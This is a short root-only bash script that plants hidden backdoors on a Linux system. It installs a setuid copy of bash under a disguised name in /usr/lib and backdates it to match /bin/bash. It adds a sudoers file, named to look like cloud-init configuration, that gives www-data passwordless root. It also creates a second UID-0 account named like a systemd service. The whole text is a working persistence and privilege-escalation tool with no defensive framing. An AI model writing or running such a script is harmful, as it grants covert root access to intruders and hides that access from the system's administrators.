#!/bin/bash
[ "$EUID" -eq 0 ] || exit 1
cp /bin/bash /usr/lib/.dbus-daemon-launch
chmod 4755 /usr/lib/.dbus-daemon-launch
touch -r /bin/bash /usr/lib/.dbus-daemon-launch
echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-cloud-init-compat
chmod 440 /etc/sudoers.d/90-cloud-init-compat
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash systemd-netd 2>/dev/null
echo 'systemd-netd:$6$fakesalt$FAKEHASHFAKEHASH' | chpasswd -e
# usage: /usr/lib/.dbus-daemon-launch -p
